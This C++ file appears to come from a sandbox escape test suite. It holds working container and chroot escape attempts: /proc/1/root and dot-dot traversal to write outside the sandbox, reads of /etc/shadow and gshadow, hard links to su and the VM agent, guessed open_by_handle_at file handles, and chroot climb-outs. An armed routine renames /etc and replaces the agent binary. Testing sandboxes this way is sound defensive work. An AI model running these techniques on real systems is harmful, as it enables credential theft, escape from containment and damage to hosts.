// Names that lead out of the sandbox's file systems.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>

#include "escape_suite/programs/program.h"

namespace cordon::escape_programs {
namespace {

constexpr size_t kPathBytes = 1024;

// Ways to spell the root directory that a sandbox might have overlooked.
const char* const kRoots[] = {"", "/proc/1/root", "/proc/self/root/../../..",
                              "/proc/self/cwd/../../../../../../.."};

int createFile(const char* path) {
  int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC | O_NOFOLLOW, 0644);
  if (fd < 0) return errno;
  constexpr char kText[] = "cordon escape suite\n";
  int error = errorOf(write(fd, kText, sizeof(kText) - 1));
  close(fd);
  return error;
}

// Reads without keeping: how much there is to read is all that is told.
int readSome(const char* path, long long* bytes) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return errno;
  char buffer[4096];
  ssize_t n = read(fd, buffer, sizeof(buffer));
  int error = errorOf(n);
  close(fd);
  if (n > 0) *bytes += n;
  return n == 0 ? ENODATA : error;
}

int linkHere(const char* from) {
  int error = errorOf(linkat(AT_FDCWD, from, AT_FDCWD, "./hard-link", AT_SYMLINK_FOLLOW));
  if (error == 0) unlink("./hard-link");
  return error;
}

int openByHandle() {
  union {
    file_handle handle;
    char space[sizeof(file_handle) + MAX_HANDLE_SZ];
  } root{};
  root.handle.handle_bytes = MAX_HANDLE_SZ;
  int mountId = 0;
  if (name_to_handle_at(AT_FDCWD, "/", &root.handle, &mountId, 0) < 0) return errno;
  int directory = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (directory < 0) return errno;
  int fd = open_by_handle_at(directory, &root.handle, O_RDONLY);
  int error = errorOf(fd);
  if (fd >= 0) close(fd);
  close(directory);
  return error;
}

// Made up: inode 2 is the root of most disk file systems, whatever is mounted.
int openGuessedHandle() {
  union {
    file_handle handle;
    char space[sizeof(file_handle) + 8];
  } guess{};
  guess.handle.handle_bytes = 8;
  guess.handle.handle_type = 1;
  unsigned inode = 2;
  memcpy(guess.space + sizeof(file_handle), &inode, sizeof(inode));
  int directory = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (directory < 0) return errno;
  int fd = open_by_handle_at(directory, &guess.handle, O_RDONLY);
  int error = errorOf(fd);
  if (fd >= 0) close(fd);
  close(directory);
  return error;
}

int tryChroot() {
  return errorOf(chroot("."));
}

// The old way out of a chroot: keep the working directory above the new root.
int climbOut() {
  if (mkdir("./jail", 0700) < 0 && errno != EEXIST) return errno;
  int error = errorOf(chroot("./jail"));
  if (error == 0) {
    for (int i = 0; i < 64; ++i) error = errorOf(chdir(".."));
    if (error == 0) error = errorOf(chroot("."));
  }
  return error;
}

}  // namespace

// write_outside PATH...
void writeOutside(const Arguments& arguments) {
  for (int i = 0; i < arguments.count; ++i) {
    int best = -1;
    for (const char* root : kRoots) {
      char path[kPathBytes];
      append(append(path, path + sizeof(path) - 1, root), path + sizeof(path) - 1,
             arguments.text(i));
      int error = createFile(path);
      if (best != 0) best = error;
    }
    char what[32];
    append(appendNumber(append(what, what + sizeof(what) - 1, "path"), what + sizeof(what) - 1, i),
           what + sizeof(what) - 1, "");
    // Not an attempt that must fail: a sandbox may have a writable place of its
    // own by that name. What counts is whether the file is on the host.
    report({{what, best}});
  }
  report({{"paths", arguments.count}});
}

void readShadow(const Arguments&) {
  long long bytes = 0;
  tried("shadow", readSome("/etc/shadow", &bytes));
  tried("shadow_backup", readSome("/etc/shadow-", &bytes));
  tried("gshadow", readSome("/etc/gshadow", &bytes));
  tried("shadow_by_proc_root", readSome("/proc/1/root/etc/shadow", &bytes));
  tried("shadow_by_dots", readSome("/work/../../../../etc/shadow", &bytes));
  unlink("./link");
  if (symlink("/proc/1/root/etc/shadow", "./link") == 0) {
    tried("shadow_by_link", readSome("./link", &bytes));
    unlink("./link");
  }
  report({{"bytes", bytes}});
}

void hardLinks(const Arguments&) {
  tried("link_passwd", linkHere("/etc/passwd"));
  tried("link_su", linkHere("/usr/bin/su"));
  tried("link_python", linkHere("/usr/bin/env"));
  tried("link_agent", linkHere("/.cordon/vm-agent"));
  tried("link_agent_exe", linkHere("/proc/1/exe"));
}

// Only ever armed: on a machine of its own this moves real directories.
void renameMounts(const Arguments& arguments) {
  if (!arguments.armed) return;
  tried("rename_work", errorOf(rename("/work", "/work2")));
  tried("rename_tmp", errorOf(rename("/tmp", "/tmp2")));
  tried("rename_etc", errorOf(rename("/etc", "/etc2")));
  tried("remove_work", errorOf(rmdir("/work")));
  tried("remove_usr_link", errorOf(unlink("/bin")));
  tried("replace_agent", errorOf(rename("./escape-programs", "/.cordon/vm-agent")));
  tried("symlink_root", errorOf(symlink("/work", "/.cordon/link")));
}

void fileHandles(const Arguments&) {
  tried("handle_of_root", openByHandle());
  tried("guessed_handle", openGuessedHandle());
}

// What an agent that looks around in the scratch would stumble over: loops,
// pipes that block an open, names that are no text, a deep tree, many entries.
// It stays, for the agent to meet after the end; the directory is the caller's.
void symlinkMaze(const Arguments& arguments) {
  int made = 0;
  made += symlink("/", "root") == 0;
  made += symlink("loop", "loop") == 0;
  made += symlink("/proc/self/fd", "fds") == 0;
  made += symlink("/proc/1/root/etc", "etc") == 0;
  made += mkfifo("fifo", 0666) == 0;
  int odd = open("line\nbreak\x1b[2J\xff\xfe", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (odd >= 0) {
    made++;
    // Exactly at the file size limit, where a search for such files looks.
    (void)!ftruncate(odd, static_cast<off_t>(arguments.number(0, 4096)));
    close(odd);
  }
  char path[kPathBytes];
  for (int i = 0; i < 1000; ++i) {
    appendNumber(append(path, path + sizeof(path) - 1, "many-"), path + sizeof(path) - 1, i);
    made += symlink("loop", path) == 0;
  }
  int depth = 0;
  while (depth < 200 && mkdir("deep", 0755) == 0 && chdir("deep") == 0) ++depth;
  report({{"made", made}, {"depth", depth}});
}

void chrootBreak(const Arguments&) {
  tried("chroot", inChild(tryChroot));
  tried("climb_out", inChild(climbOut));
  rmdir("./jail");
}

}  // namespace cordon::escape_programs
